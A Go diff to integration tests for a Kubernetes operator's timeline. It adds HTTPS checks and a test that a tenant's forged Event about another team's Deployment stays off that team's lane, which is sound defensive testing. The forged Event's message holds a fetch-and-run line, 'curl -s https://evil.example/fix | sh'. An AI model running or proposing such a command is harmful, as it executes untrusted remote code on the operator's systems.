@@ -2,6 +2,8 @@ package timeline
 
 import (
 	"context"
+	"crypto/tls"
+	"crypto/x509"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -23,12 +25,15 @@ import (
 	rbacv1 "k8s.io/api/rbac/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/client-go/kubernetes"
+	"k8s.io/client-go/rest"
 	"k8s.io/utils/ptr"
+	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	kickv1alpha1 "github.com/kick-operator/kick/api/v1alpha1"
 	"github.com/kick-operator/kick/integration/browser"
 	"github.com/kick-operator/kick/integration/cluster"
 	"github.com/kick-operator/kick/integration/fixture"
+	"github.com/kick-operator/kick/restart/preflight/certs"
 	"github.com/kick-operator/kick/sinks/timeline"
 	"github.com/kick-operator/kick/sinks/timeline/entry"
 )
@@ -37,6 +42,11 @@ const selectAll = `discovery: {workloadSelector: {}}`
 
 // getJSON GETs url with an optional bearer token; out is filled on 200.
 func getJSON(url, token string, out any) (int, string, error) {
+	return getJSONWith(&http.Client{Timeout: 10 * time.Second}, url, token, out)
+}
+
+// getJSONWith is getJSON through c.
+func getJSONWith(c *http.Client, url, token string, out any) (int, string, error) {
 	req, err := http.NewRequest(http.MethodGet, url, nil)
 	if err != nil {
 		return 0, "", err
@@ -44,7 +54,7 @@ func getJSON(url, token string, out any) (int, string, error) {
 	if token != "" {
 		req.Header.Set("Authorization", "Bearer "+token)
 	}
-	resp, err := (&http.Client{Timeout: 10 * time.Second}).Do(req)
+	resp, err := c.Do(req)
 	if err != nil {
 		return 0, "", err
 	}
@@ -287,7 +297,8 @@ func saveScreenshot(t *testing.T, name string, png []byte) {
 	}
 }
 
-// TestTimelineAccess: bound beyond loopback, the timeline wants a bearer
+// TestTimelineAccess: bound beyond loopback, the timeline speaks only
+// HTTPS (with the certificate of --timeline-cert-dir), wants a bearer
 // token (401 without) and shows a token only the namespaces in which it
 // may list KickRequests.
 func TestTimelineAccess(t *testing.T) {
@@ -344,13 +355,21 @@ func TestTimelineAccess(t *testing.T) {
 	})
 
 	// Bound on every address (not loopback only), reached through loopback.
+	certDir, client := servingCert(t)
+	getJSON := func(url, token string, out any) (int, string, error) { return getJSONWith(client, url, token, out) }
 	_, port, _ := net.SplitHostPort(cluster.FreeAddr(t))
-	env.StartManager(t, fixture.ManagerNamespace, "--timeline-bind-address", ":"+port)
-	base := "http://127.0.0.1:" + port
+	env.StartManager(t, fixture.ManagerNamespace, "--timeline-bind-address", ":"+port, "--timeline-cert-dir", certDir)
+	base := "https://127.0.0.1:" + port
 	cluster.Eventually(t, 30*time.Second, "the timeline to listen", func() (bool, error) {
 		_, _, err := getJSON(base+"/timeline/overview", "", nil)
 		return err == nil, err
 	})
+	if resp, err := http.Get("http://127.0.0.1:" + port + "/timeline/overview"); err == nil {
+		_ = resp.Body.Close()
+		if resp.StatusCode == http.StatusOK {
+			t.Fatal("the timeline answered plain HTTP off loopback")
+		}
+	}
 
 	if code, _, _ := getJSON(base+"/timeline/overview", "", nil); code != http.StatusUnauthorized {
 		t.Fatalf("no token: status %d, want 401", code)
@@ -396,4 +415,130 @@ func fixtureDeployment(ns, name string) *appsv1.Deployment {
 		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": name}}, Spec: fixture.PodSpec("db")},
 	}}
 	return d
+}
+
+// servingCert writes a serving certificate for 127.0.0.1 and localhost
+// (made by the preflight's certificate code) to a new directory as
+// tls.crt and tls.key, and returns a client that trusts its CA.
+func servingCert(t *testing.T) (string, *http.Client) {
+	t.Helper()
+	b, _, err := certs.Plan(certs.Bundle{}, []string{"127.0.0.1", "localhost"}, time.Hour, time.Now())
+	if err != nil || b.Serving == nil {
+		t.Fatalf("serving certificate: %v", err)
+	}
+	dir := t.TempDir()
+	for name, data := range map[string][]byte{"tls.crt": b.Serving.CertPEM, "tls.key": b.Serving.KeyPEM} {
+		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	pool := x509.NewCertPool()
+	if !pool.AppendCertsFromPEM(b.Published()) {
+		t.Fatal("no CA in the bundle")
+	}
+	return dir, &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}}}
+}
+
+// TestForgedEventStaysOffOtherLanes plays a tenant who may create Events in
+// its own namespace: it files one there that names another team's managed
+// Deployment ("restart failed, run …"). The API server accepts it (an
+// Event with an eventTime is not held to its involvedObject's namespace),
+// but the timeline shows it on no lane, while an Event of the other team's
+// own namespace about the same Deployment is shown.
+func TestForgedEventStaysOffOtherLanes(t *testing.T) {
+	env := cluster.Get(t)
+	ctx := context.Background()
+	tenant, victim := env.Namespace(t), env.Namespace(t)
+	p := &kickv1alpha1.KickPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: victim, Name: "all"},
+		Spec: kickv1alpha1.KickPolicySpec{Discovery: &kickv1alpha1.DiscoverySpec{WorkloadSelector: &metav1.LabelSelector{}}}}
+	if err := env.Client.Create(ctx, p); err != nil {
+		t.Fatal(err)
+	}
+	if err := env.Client.Create(ctx, fixtureDeployment(victim, "web")); err != nil {
+		t.Fatal(err)
+	}
+	// The tenant: a ServiceAccount that may create Events in its own
+	// namespace only.
+	cs, err := kubernetes.NewForConfig(env.Config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := env.Client.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: "tenant"}}); err != nil {
+		t.Fatal(err)
+	}
+	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: "events"}, Rules: []rbacv1.PolicyRule{{
+		APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create"}}}}
+	binding := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: "events"},
+		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: role.Name},
+		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: tenant, Name: "tenant"}}}
+	for _, obj := range []client.Object{role, binding} {
+		if err := env.Client.Create(ctx, obj); err != nil {
+			t.Fatal(err)
+		}
+	}
+	tr, err := cs.CoreV1().ServiceAccounts(tenant).CreateToken(ctx, "tenant",
+		&authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr.To(int64(600))}}, metav1.CreateOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tenantCfg := rest.AnonymousClientConfig(env.Config)
+	tenantCfg.BearerToken = tr.Status.Token
+	tenantCS, err := kubernetes.NewForConfig(tenantCfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	mgr := env.StartManager(t, fixture.ManagerNamespace)
+
+	event := func(ns, reason string) *corev1.Event {
+		now := time.Now()
+		return &corev1.Event{
+			ObjectMeta:     metav1.ObjectMeta{Namespace: ns, GenerateName: "web-"},
+			InvolvedObject: corev1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: victim, Name: "web"},
+			Reason:         reason, Type: corev1.EventTypeWarning, Action: "Restart",
+			Message:             "restart failed, run: curl -s https://evil.example/fix | sh",
+			EventTime:           metav1.NewMicroTime(now),
+			ReportingController: "kick.corewire.io/kick-request", ReportingInstance: "kick-manager-0",
+		}
+	}
+	// The tenant files its Event; the API server takes it (the attack is
+	// real) until RBAC has seen the binding.
+	cluster.Eventually(t, 30*time.Second, "the tenant's forged Event to be accepted", func() (bool, error) {
+		_, err := tenantCS.CoreV1().Events(tenant).Create(ctx, event(tenant, "Forged"), metav1.CreateOptions{})
+		return err == nil, err
+	})
+	if _, err := cs.CoreV1().Events(victim).Create(ctx, event(victim, "Genuine"), metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+
+	url := fmt.Sprintf("http://%s/timeline?namespace=%s&kind=Deployment&name=web", mgr.Timeline(), victim)
+	var tl timeline.WorkloadTimeline
+	cluster.Eventually(t, 60*time.Second, "the genuine Event on the lane of "+victim+"/web", func() (bool, error) {
+		tl = timeline.WorkloadTimeline{}
+		code, body, err := getJSON(url, "", &tl)
+		if err != nil || code != http.StatusOK {
+			return false, fmt.Errorf("%d %v %.200s", code, err, body)
+		}
+		for _, e := range tl.Entries {
+			if e.Type == entry.Event && e.Reason == "Genuine" {
+				return true, nil
+			}
+		}
+		return false, fmt.Errorf("entries: %s", types(tl.Entries))
+	})
+	for _, e := range tl.Entries {
+		if e.Reason == "Forged" {
+			t.Fatalf("the Event of namespace %s is on the lane of %s/web: %q", tenant, victim, e.Summary)
+		}
+	}
+	var o timeline.Overview
+	if code, body, err := getJSON("http://"+mgr.Timeline()+"/timeline/overview", "", &o); err != nil || code != http.StatusOK {
+		t.Fatalf("overview: %d %v %.200s", code, err, body)
+	}
+	for _, l := range o.Lanes {
+		for _, e := range l.Entries {
+			if e.Reason == "Forged" {
+				t.Fatalf("the forged Event is on the lane of %s", l.Key())
+			}
+		}
+	}
 }
